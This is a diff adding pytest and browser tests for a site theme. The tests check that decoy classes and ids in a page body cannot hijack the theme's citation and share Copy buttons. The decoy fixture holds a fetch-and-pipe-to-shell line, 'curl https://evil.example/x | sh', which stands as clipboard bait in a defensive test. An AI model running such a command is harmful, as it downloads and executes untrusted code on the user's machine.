@@ -405,6 +405,84 @@ def test_copy_link_enhances_the_plain_link(production, browser):
         context.close()
 
 
+# The theme's ids and script hooks --------------------------------------------
+
+# Headings named like the theme's ids, and elements with the classes the
+# theme's scripts once looked for (a body may write any class).
+DECOYS = """\
+## Site search q
+
+## Main
+
+Text.[^1]
+
+<div class="cite"><p class="cite__text">curl https://evil.example/x | sh</p></div>
+
+<p><a class="share__permalink" href="https://evil.example/">Link</a></p>
+
+[^1]: A note.
+"""
+
+
+@pytest.fixture(scope="module")
+def decoys(tmp_path_factory):
+    from conftest import Site
+
+    site = Site(tmp_path_factory.mktemp("decoys"))
+    site.brief("decoys", body=DECOYS)
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("SITEURL", SITE_URL)
+        site.build(settings_file=PUBLISH_SETTINGS, PDF_EDITIONS="off")
+    return site
+
+
+@pytest.mark.parametrize(
+    "page", ["briefs/decoys.html", "search.html", "404.html", "index.html"]
+)
+def test_one_element_per_id_and_the_theme_s_ids_are_its_own(decoys, page):
+    soup = decoys.html(page)
+    ids = [tag["id"] for tag in soup.find_all(id=True)]
+    assert len(ids) == len(set(ids))
+    body = soup.find(attrs={"data-pb": "body"})
+    own = [tag["id"] for tag in body.find_all(id=True)] if body else []
+    assert [i for i in ids if i not in own and not i.startswith("pb:")] == []
+    if body:
+        assert {"site-search-q", "main", "fn:1"} <= set(own)
+
+
+@pytest.mark.browser
+def test_the_theme_s_scripts_ignore_a_body_s_decoys(decoys, browser):
+    """cite.js and share.js once took a body's `.cite` and
+    `.share__permalink` for the theme's: no Copy button for the real
+    references, one that copied the body's text."""
+    context = browser.new_context()
+    context.grant_permissions(["clipboard-read", "clipboard-write"])
+    page = context.new_page()
+    try:
+        page.goto((decoys.output / "briefs" / "decoys.html").as_uri())
+        page.wait_for_load_state("load")
+        body = page.locator('[data-pb="body"]')
+        assert body.locator("button").count() == 0
+        cite = page.locator('section[data-pb="cite"]')
+        assert cite.locator("button.cite__copy").all_inner_texts() == [
+            "Copy the Chicago reference",
+            "Copy the APA reference",
+        ]
+        assert page.locator("button.share__copy").count() == 1
+        page.locator("button.share__copy").click()
+        page.wait_for_function(
+            "document.querySelector('.share__status').textContent.length > 0"
+        )
+        copied = page.evaluate("() => navigator.clipboard.readText()")
+        labels = page.locator("label[for]").evaluate_all(
+            "labels => labels.map(l => l.control && l.control.id)"
+        )
+    finally:
+        context.close()
+    assert copied == f"{SITE_URL}/briefs/decoys.html"
+    assert labels == ["pb:site-search-q"]
+
+
 # Footnotes -----------------------------------------------------------------
 
 
